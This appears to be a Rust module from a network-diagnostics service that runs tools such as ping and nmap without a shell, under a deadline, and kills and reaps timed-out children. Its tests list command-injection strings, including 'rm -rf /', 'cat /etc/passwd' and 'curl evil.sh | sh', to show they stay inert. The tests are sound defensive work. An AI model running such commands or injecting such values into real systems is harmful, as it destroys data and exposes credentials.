//! Bounded execution of diagnostic tools.
//!
//! - Fixed-shape argument vectors: `[program, ...flags, target]`, no shell involved
//! - Wall-clock deadline enforced here; on expiry the child is killed and reaped
//! - Outcomes are classified as success, failure (non-zero exit) or timeout

use crate::models::Tool;
use async_trait::async_trait;
use std::process::Stdio;
use std::time::{Duration, Instant};
use tokio::io::{AsyncRead, AsyncReadExt};
use tokio::process::Command;
use tracing::{debug, warn};

/// Immutable description of one tool invocation.
///
/// The untrusted target is stored apart from the flags and always ends up as
/// exactly one element of the argument vector, whatever characters it holds.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CommandSpec {
    program: String,
    flags: Vec<String>,
    target: String,
}

impl CommandSpec {
    pub fn new<I, S>(program: impl Into<String>, flags: I, target: impl Into<String>) -> Self
    where
        I: IntoIterator<Item = S>,
        S: Into<String>,
    {
        Self {
            program: program.into(),
            flags: flags.into_iter().map(Into::into).collect(),
            target: target.into(),
        }
    }

    pub fn for_tool(tool: Tool, target: &str) -> Self {
        Self::new(tool.program(), tool.fixed_flags().iter().copied(), target)
    }

    pub fn program(&self) -> &str {
        &self.program
    }

    pub fn target(&self) -> &str {
        &self.target
    }

    pub fn argv(&self) -> Vec<&str> {
        std::iter::once(self.program.as_str())
            .chain(self.flags.iter().map(String::as_str))
            .chain(std::iter::once(self.target.as_str()))
            .collect()
    }
}

/// Classified result of one invocation
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ExecutionOutcome {
    Success(String),
    Failure { stderr: String, exit_code: i32 },
    Timeout,
}

#[derive(Debug, thiserror::Error)]
pub enum ExecutionError {
    #[error("failed to spawn {program}: {source}")]
    Spawn {
        program: String,
        #[source]
        source: std::io::Error,
    },
    #[error("failed waiting for {program}: {source}")]
    Wait {
        program: String,
        #[source]
        source: std::io::Error,
    },
}

#[async_trait]
pub trait CommandInvoker: Send + Sync {
    async fn run(&self, spec: &CommandSpec, timeout: Duration) -> Result<ExecutionOutcome, ExecutionError>;
}

/// Runs commands as real child processes through `tokio::process`
#[derive(Debug, Clone, Copy, Default)]
pub struct ProcessInvoker;

#[async_trait]
impl CommandInvoker for ProcessInvoker {
    async fn run(&self, spec: &CommandSpec, timeout: Duration) -> Result<ExecutionOutcome, ExecutionError> {
        let start_time = Instant::now();
        let argv = spec.argv();
        debug!(?argv, ?timeout, "spawning command");

        let mut child = Command::new(spec.program())
            .args(&argv[1..])
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .kill_on_drop(true)
            .spawn()
            .map_err(|source| ExecutionError::Spawn { program: spec.program().to_string(), source })?;

        let stdout = child.stdout.take();
        let stderr = child.stderr.take();

        // les pipes sont lus pendant l'attente, sinon un gros output bloque le fils
        let finished = tokio::time::timeout(timeout, async {
            let (status, out, err) = tokio::join!(child.wait(), read_pipe(stdout), read_pipe(stderr));
            status.map(|status| (status, out, err))
        })
        .await;

        match finished {
            Ok(Ok((status, out, err))) => {
                debug!(
                    program = spec.program(),
                    code = ?status.code(),
                    elapsed_ms = start_time.elapsed().as_millis() as u64,
                    "command finished"
                );
                if status.success() {
                    Ok(ExecutionOutcome::Success(out))
                } else {
                    Ok(ExecutionOutcome::Failure { stderr: err, exit_code: status.code().unwrap_or(-1) })
                }
            }
            Ok(Err(source)) => Err(ExecutionError::Wait { program: spec.program().to_string(), source }),
            Err(_) => {
                warn!(program = spec.program(), ?timeout, "deadline exceeded, killing child");
                // kill() attend la fin du process : pas de zombie
                if let Err(e) = child.kill().await {
                    warn!(program = spec.program(), "failed to kill timed out child: {e}");
                }
                Ok(ExecutionOutcome::Timeout)
            }
        }
    }
}

async fn read_pipe<R: AsyncRead + Unpin>(pipe: Option<R>) -> String {
    let mut buf = Vec::new();
    if let Some(mut pipe) = pipe {
        if let Err(e) = pipe.read_to_end(&mut buf).await {
            debug!("pipe read error: {e}");
        }
    }
    String::from_utf8_lossy(&buf).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_argv_shape_per_tool() {
        let ping = CommandSpec::for_tool(Tool::Ping, "example.com");
        assert_eq!(ping.argv(), vec!["ping", "-c", "4", "example.com"]);

        let nmap = CommandSpec::for_tool(Tool::Nmap, "example.com");
        assert_eq!(nmap.argv(), vec!["nmap", "-F", "example.com"]);
    }

    #[test]
    fn test_metacharacters_stay_in_one_slot() {
        let hostile = [
            "x.com; rm -rf /",
            "x.com | cat /etc/passwd",
            "`reboot`",
            "$(id)",
            "a b\tc\nd",
            "x.com && curl evil.sh | sh",
            "'\"",
        ];
        for tool in Tool::ALL {
            for target in hostile {
                let spec = CommandSpec::for_tool(tool, target);
                let argv = spec.argv();
                assert_eq!(argv.len(), tool.fixed_flags().len() + 2);
                assert_eq!(argv.last(), Some(&target));
                assert_eq!(argv.iter().filter(|a| **a == target).count(), 1);
            }
        }
    }

    #[cfg(unix)]
    #[tokio::test]
    async fn test_success_captures_stdout() {
        let spec = CommandSpec::new("printf", ["%s"], "ok");
        let outcome = ProcessInvoker.run(&spec, Duration::from_secs(5)).await.unwrap();
        assert_eq!(outcome, ExecutionOutcome::Success("ok".to_string()));
    }

    #[cfg(unix)]
    #[tokio::test]
    async fn test_non_zero_exit_is_failure() {
        // la cible devient $0 du script, elle n'est pas interprétée
        let spec = CommandSpec::new("sh", ["-c", "printf %s \"$0\" >&2; exit 3"], "host unreachable");
        let outcome = ProcessInvoker.run(&spec, Duration::from_secs(5)).await.unwrap();
        assert_eq!(
            outcome,
            ExecutionOutcome::Failure { stderr: "host unreachable".to_string(), exit_code: 3 }
        );
    }

    #[cfg(unix)]
    #[tokio::test]
    async fn test_injection_is_not_executed() {
        let target = "x.com; echo pwned";
        let spec = CommandSpec::new("printf", ["%s"], target);
        let outcome = ProcessInvoker.run(&spec, Duration::from_secs(5)).await.unwrap();
        assert_eq!(outcome, ExecutionOutcome::Success(target.to_string()));
    }

    #[cfg(unix)]
    #[tokio::test]
    async fn test_deadline_returns_timeout() {
        let spec = CommandSpec::new("sleep", Vec::<String>::new(), "10");
        let started = Instant::now();
        let outcome = ProcessInvoker.run(&spec, Duration::from_millis(200)).await.unwrap();
        assert_eq!(outcome, ExecutionOutcome::Timeout);
        assert!(started.elapsed() < Duration::from_secs(5));
    }

    #[cfg(target_os = "linux")]
    #[tokio::test]
    async fn test_timed_out_child_is_reaped() {
        let dir = tempfile::tempdir().unwrap();
        let pidfile = dir.path().join("child.pid");
        let spec = CommandSpec::new(
            "sh",
            ["-c", "echo $$ > \"$0\"; exec sleep 30"],
            pidfile.to_string_lossy(),
        );

        let outcome = ProcessInvoker.run(&spec, Duration::from_millis(500)).await.unwrap();
        assert_eq!(outcome, ExecutionOutcome::Timeout);

        let pid = std::fs::read_to_string(&pidfile).unwrap().trim().to_string();
        assert!(!pid.is_empty());
        // ni vivant ni zombie : l'entrée /proc disparaît une fois le fils récolté
        assert!(!std::path::Path::new(&format!("/proc/{pid}")).exists());
    }

    #[tokio::test]
    async fn test_missing_program_is_spawn_error() {
        let spec = CommandSpec::new("netprobe-no-such-binary", Vec::<String>::new(), "example.com");
        let err = ProcessInvoker.run(&spec, Duration::from_secs(1)).await.unwrap_err();
        assert!(matches!(err, ExecutionError::Spawn { .. }));
    }
}
